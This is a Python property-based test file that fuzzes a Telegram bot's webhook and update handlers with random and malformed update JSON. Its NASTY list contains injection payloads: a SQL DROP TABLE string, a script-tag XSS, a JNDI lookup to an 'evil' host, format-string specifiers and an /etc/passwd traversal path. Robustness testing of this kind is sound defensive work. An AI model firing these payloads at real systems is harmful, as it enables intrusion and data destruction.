"""Hostile updates: whatever Telegram (or someone forging its webhook) sends, nothing breaks.

Hypothesis builds update JSON with random and missing fields, odd kinds, huge, right-to-left,
zero-width and injection text, forged callback data and duplicate ids. Each goes through the
webhook route (always 200) and through the real Application with the real API behind it; no
handler may raise.
"""

import asyncio
import json
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import httpx
from bot_harness import WEBHOOK_SECRET, asgi_client, bot_settings
from fake_telegram import FakeTelegram
from fastapi import FastAPI
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from telegram import Update
from telegram.ext import ContextTypes

from bot.application import build_application
from bot.webhook import DEFAULT_PATH, SECRET_HEADER, webhook_router

NASTY = [
    "'; DROP TABLE answer; --",
    "<script>alert(1)</script>",
    "{{7*7}} ${jndi:ldap://evil/a} %s%s%n",
    "\u202eevil\u202c",
    "\u200b\u200c\u200d\ufeff",
    "مرحبا بالعالم",
    "שלום",
    "👍🏽👨‍👩‍👧‍👦🏳️‍🌈",
    "\x00\x01\x1b[31m",
    "../../etc/passwd",
    "/start ../../admin",
    "/start " + "A" * 80,
    "/help@someone_else_bot",
    "/forget now please",
    "x" * 5000,
    "1",
    "99",
    "",
]
SCALARS = st.one_of(
    st.none(), st.booleans(), st.integers(-(2**63), 2**63), st.floats(allow_nan=False),
    st.text(max_size=30),
)  # fmt: skip
JSONISH = st.recursive(
    SCALARS,
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=10), inner, max_size=3)
    ),
    max_leaves=8,
)
TEXT = st.one_of(st.sampled_from(NASTY), st.text(max_size=200))
IDS = st.one_of(st.integers(-(2**52), 2**52), st.sampled_from([0, 1, -1, 2**31, 777]))


def optional(**fields: Any) -> Any:
    return st.fixed_dictionaries({}, optional=fields)


USERS = st.builds(
    lambda required, extra: {**required, **extra},
    st.fixed_dictionaries({"id": IDS, "is_bot": st.booleans(), "first_name": TEXT}),
    optional(
        last_name=TEXT,
        username=TEXT,
        language_code=st.one_of(st.sampled_from(["en", "pl", "ro", "xx", ""]), TEXT),
    ),
)
CHATS = st.fixed_dictionaries(
    {
        "id": IDS,
        "type": st.one_of(
            st.just("private"),
            st.just("private"),
            st.just("private"),
            st.sampled_from(["group", "supergroup", "channel", "odd"]),
        ),
    },
    optional={"title": TEXT, "username": TEXT},
)
ENTITIES = st.lists(
    st.fixed_dictionaries(
        {
            "type": st.sampled_from(["bot_command", "mention", "url", "bold", "custom_emoji"]),
            "offset": st.integers(-3, 60),
            "length": st.integers(-1, 60),
        }
    ),
    max_size=3,
)
FILE = st.fixed_dictionaries(
    {
        "file_id": TEXT,
        "file_unique_id": TEXT,
        "width": st.integers(0, 4096),
        "height": st.integers(0, 4096),
        "duration": st.integers(-1, 10**6),
        "type": st.sampled_from(["regular", "mask", "custom_emoji"]),
        "is_animated": st.booleans(),
        "is_video": st.booleans(),
    },
    optional={"file_size": st.integers(-1, 2**40), "mime_type": TEXT},
)
# One kind of content a message, as Telegram sends (sometimes none, sometimes junk).
TEXTS = st.fixed_dictionaries({"text": TEXT}, optional={"entities": ENTITIES})
CONTENT = st.one_of(
    TEXTS,
    TEXTS,
    TEXTS,
    TEXTS,
    TEXTS,
    TEXTS,
    TEXTS,
    TEXTS,
    st.fixed_dictionaries({"voice": FILE}),
    st.fixed_dictionaries({"sticker": FILE}),
    st.fixed_dictionaries({"document": FILE}, optional={"caption": TEXT}),
    st.fixed_dictionaries({"photo": st.lists(FILE, max_size=2)}, optional={"caption": TEXT}),
    st.fixed_dictionaries(
        {"contact": st.fixed_dictionaries({"phone_number": TEXT, "first_name": TEXT})}
    ),
    st.fixed_dictionaries(
        {"location": st.fixed_dictionaries(
            {"latitude": st.floats(-90, 90), "longitude": st.floats(-180, 180)}
        )}
    ),
    st.fixed_dictionaries({"poll": JSONISH}),
    st.fixed_dictionaries({}, optional={"junk": JSONISH, "edit_date": st.integers(0, 2**31)}),
)  # fmt: skip
MESSAGES = st.builds(
    lambda base, content: {**base, **content},
    st.fixed_dictionaries(
        {
            "message_id": IDS,
            "date": st.integers(0, 2**31),
            "chat": CHATS,
            "from": st.one_of(USERS, USERS, USERS, USERS, USERS, st.none()),
        }
    ),
    CONTENT,
)
STATUSES = st.one_of(
    st.sampled_from(["member", "kicked", "left"]),
    st.sampled_from(["administrator", "creator", "restricted", "odd"]),
)
MEMBERS = st.fixed_dictionaries({"user": USERS, "status": STATUSES, "until_date": st.just(0)})
MEMBER_CHANGES = st.fixed_dictionaries(
    {
        "chat": CHATS,
        "from": USERS,
        "date": st.integers(0, 2**31),
        "old_chat_member": MEMBERS,
        "new_chat_member": MEMBERS,
    }
)
CALLBACKS = st.fixed_dictionaries(
    {"id": TEXT, "from": USERS, "chat_instance": TEXT},
    optional={"data": TEXT, "message": MESSAGES, "game_short_name": TEXT},
)
BODIES = st.one_of(
    st.tuples(st.just("message"), MESSAGES),
    st.tuples(st.just("message"), MESSAGES),
    st.tuples(st.just("message"), MESSAGES),
    st.tuples(st.sampled_from(["edited_message", "channel_post"]), MESSAGES),
    st.tuples(st.just("callback_query"), CALLBACKS),
    st.tuples(st.sampled_from(["my_chat_member", "chat_member"]), MEMBER_CHANGES),
    st.tuples(st.sampled_from(["inline_query", "poll", "business_message", "odd_kind"]), JSONISH),
)
UPDATES = st.builds(
    lambda update_id, body, extra: {"update_id": update_id, body[0]: body[1], **extra},
    st.one_of(st.integers(1, 40), st.integers(1, 2**31)),  # small ids repeat: duplicates
    BODIES,
    st.dictionaries(
        st.sampled_from(["odd", "update_id2", "message_reaction"]), JSONISH, max_size=1
    ),
)


def test_hostile_updates_never_break_the_bot_or_the_webhook(
    fake_telegram: FakeTelegram, app: FastAPI, tmp_path: Path
) -> None:
    loop = asyncio.new_event_loop()
    stack = AsyncExitStack()
    errors: list[BaseException] = []

    async def collect(update: object, context: ContextTypes.DEFAULT_TYPE) -> None:
        errors.append(context.error or RuntimeError("no error?"))

    async def setup() -> tuple[Any, httpx.AsyncClient]:
        await stack.enter_async_context(app.router.lifespan_context(app))
        application = build_application(
            bot_settings(fake_telegram, tmp_path / "bot"), client=asgi_client(app)
        )
        application.add_error_handler(collect)
        await stack.enter_async_context(application)
        web = FastAPI()
        web.include_router(webhook_router(application, WEBHOOK_SECRET))
        webhook = httpx.AsyncClient(
            transport=httpx.ASGITransport(app=web), base_url="http://bot.test"
        )
        await stack.enter_async_context(webhook)
        return application, webhook

    application, webhook = loop.run_until_complete(setup())

    async def feed(data: dict[str, Any]) -> None:
        response = await webhook.post(
            DEFAULT_PATH,
            content=json.dumps(data, default=str),
            headers={SECRET_HEADER: WEBHOOK_SECRET, "content-type": "application/json"},
        )
        assert response.status_code == 200
        while not application.update_queue.empty():  # nobody drains it here
            application.update_queue.get_nowait()
        try:
            update = Update.de_json(data, application.bot)
        except Exception:
            return  # PTB can't read it; the webhook already dropped it with a 200
        await application.process_update(update)

    @settings(
        max_examples=400,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(UPDATES)
    def run(data: dict[str, Any]) -> None:
        loop.run_until_complete(feed(data))
        assert errors == [], [type(e).__name__ + ": " + str(e) for e in errors]

    try:
        run()
    finally:
        loop.run_until_complete(stack.aclose())
        loop.close()
